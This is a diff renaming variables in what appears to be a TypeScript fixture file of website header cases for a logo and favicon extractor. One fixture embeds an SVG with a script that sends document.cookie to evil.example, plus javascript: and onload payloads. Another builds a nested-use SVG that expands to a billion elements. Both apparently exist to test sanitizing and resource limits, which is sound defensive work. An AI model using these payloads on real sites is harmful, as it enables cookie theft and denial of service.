@@ -32,15 +32,15 @@ import { avif, cmyk, file, gif, ico, jpeg, photo, png, pngOf, svg, webp } from '
 import { jsonLd, page, type Site } from './site.ts'
 
 const title = (name: string) => `<title>${name}</title>`
-const CURRENT: Tint = ['currentColor', 'currentColor']
+const CURRENT_COLOR: Tint = ['currentColor', 'currentColor']
 const favicon = '<link rel="icon" href="/favicon.ico">'
 const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'
 
-const raster = pngOf(umbrago.lockup(), 720).toString('base64')
-const wide = umbrago.lockup()
-const embedded = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 ${wide.width} 64"><image width="${wide.width}" height="64" xlink:href="data:image/png;base64,${raster}"/></svg>`
+const lockupPngBase64 = pngOf(umbrago.lockup(), 720).toString('base64')
+const { width: lockupWidth } = umbrago.lockup()
+const svgWithBitmap = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 ${lockupWidth} 64"><image width="${lockupWidth}" height="64" xlink:href="data:image/png;base64,${lockupPngBase64}"/></svg>`
 
-const dangerous = documentOf(
+const svgWithScript = documentOf(
   {
     ...ringelweb.lockup(),
     inside: `<script>fetch('https://evil.example/?'+document.cookie)</script><foreignObject width="100" height="20"><div xmlns="http://www.w3.org/1999/xhtml">Hello</div></foreignObject><a href="javascript:alert(1)">${ringelweb.lockup().inside}</a>`,
@@ -48,7 +48,7 @@ const dangerous = documentOf(
   'onload="alert(1)"',
 )
 /** A logo over ten nested definitions that expand to a billion dots. */
-const costly = documentOf({
+const expandingSvg = documentOf({
   ...lumbrick.lockup(),
   inside: `<defs><circle id="d0" r=".01"/>${Array.from({ length: 9 }, (_, at) => `<g id="d${at + 1}">${`<use href="#d${at}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#d9"/>${lumbrick.lockup().inside}`,
 })
@@ -93,7 +93,7 @@ export const HEADERS: Site[] = [
     },
     expected: { icon: ['/favicon.ico'], wordmark: ['inline:1'] },
     why: 'The header element refers to the symbol in the sprite.',
-    looks: { 'inline:1': documentOf(tarnwick.lockup()) },
+    rendersAs: { 'inline:1': documentOf(tarnwick.lockup()) },
   },
   {
     name: 'a header logo that uses a symbol of a sprite in a file',
@@ -111,7 +111,7 @@ export const HEADERS: Site[] = [
     },
     expected: { icon: ['/favicon.ico'], wordmark: ['/assets/sprite.svg#brand', 'inline:0'] },
     why: 'The referenced symbol of the file is the logo.',
-    looks: {
+    rendersAs: {
       'inline:0': documentOf(zephyrine.lockup()),
       '/assets/sprite.svg#brand': documentOf(zephyrine.lockup()),
     },
@@ -198,7 +198,7 @@ export const HEADERS: Site[] = [
     files: {
       '/': page(
         `${title('jotunfelt tools')}<link rel="icon" type="image/svg+xml" href="/icon.svg">`,
-        `<header class="text-slate-900 dark:text-white"><a href="/" aria-label="jotunfelt">${element(jotunfelt.lockup(CURRENT), 'class="h-6"')}</a></header>`,
+        `<header class="text-slate-900 dark:text-white"><a href="/" aria-label="jotunfelt">${element(jotunfelt.lockup(CURRENT_COLOR), 'class="h-6"')}</a></header>`,
       ),
       '/icon.svg': svg(jotunfelt.mark()),
     },
@@ -208,7 +208,7 @@ export const HEADERS: Site[] = [
       dark: { wordmark: ['inline:0'] },
     },
     why: 'currentColor is dark on light backgrounds and white on dark ones.',
-    looks: { 'inline:0': documentOf(jotunfelt.lockup(BLACK)) },
+    rendersAs: { 'inline:0': documentOf(jotunfelt.lockup(BLACK)) },
   },
   {
     name: 'a JSON-LD graph whose Organization refers to its logo by @id, with a wordmark in the header',
@@ -339,7 +339,7 @@ export const HEADERS: Site[] = [
         `${title('Umbrago')}${favicon}`,
         '<header><a href="/" class="logo"><img src="/img/logo.svg" alt="Umbrago"></a></header>',
       ),
-      '/img/logo.svg': file('image/svg+xml', embedded),
+      '/img/logo.svg': file('image/svg+xml', svgWithBitmap),
       '/favicon.ico': ico(umbrago.mark(), [48]),
     },
     expected: { icon: ['/favicon.ico'], wordmark: ['/img/logo.svg'] },
@@ -354,13 +354,13 @@ export const HEADERS: Site[] = [
         '<header><a href="/"><img src="/img/ringelweb.svg" alt="ringelweb"></a></header>',
         'de',
       ),
-      '/img/ringelweb.svg': file('image/svg+xml', dangerous),
+      '/img/ringelweb.svg': file('image/svg+xml', svgWithScript),
       '/img/ringelweb.png': png(ringelweb.lockup(), 600),
       '/favicon.ico': ico(ringelweb.mark(), [48]),
     },
     expected: { icon: ['/favicon.ico'], wordmark: ['/img/ringelweb.svg', '/img/ringelweb.png'] },
     why: 'The sanitized svg and the bitmap show the same logo.',
-    looks: { '/img/ringelweb.svg': documentOf(ringelweb.lockup()) },
+    rendersAs: { '/img/ringelweb.svg': documentOf(ringelweb.lockup()) },
   },
   {
     name: 'an svg header logo that expands to a billion elements, and a PNG in JSON-LD',
@@ -370,7 +370,7 @@ export const HEADERS: Site[] = [
         `${title('Lumbrick')}${favicon}${jsonLd({ '@context': 'https://schema.org', '@type': 'Organization', logo: '/img/lumbrick.png' })}`,
         '<header><a href="/"><img src="/img/lumbrick.svg" alt="Lumbrick"></a></header>',
       ),
-      '/img/lumbrick.svg': file('image/svg+xml', costly),
+      '/img/lumbrick.svg': file('image/svg+xml', expandingSvg),
       '/img/lumbrick.png': png(lumbrick.lockup(), 600),
       '/favicon.ico': ico(lumbrick.mark(), [48]),
     },
@@ -427,7 +427,7 @@ export const HEADERS: Site[] = [
     },
     expected: { icon: ['/images/petalune_anim.gif'], wordmark: null },
     why: 'The first frame is the complete mark.',
-    looks: { '/images/petalune_anim.gif': documentOf(plate(petalune.mark(), '#ffffff', 0, 0)) },
+    rendersAs: { '/images/petalune_anim.gif': documentOf(plate(petalune.mark(), '#ffffff', 0, 0)) },
   },
   {
     name: 'a CMYK JPEG for print as header logo',
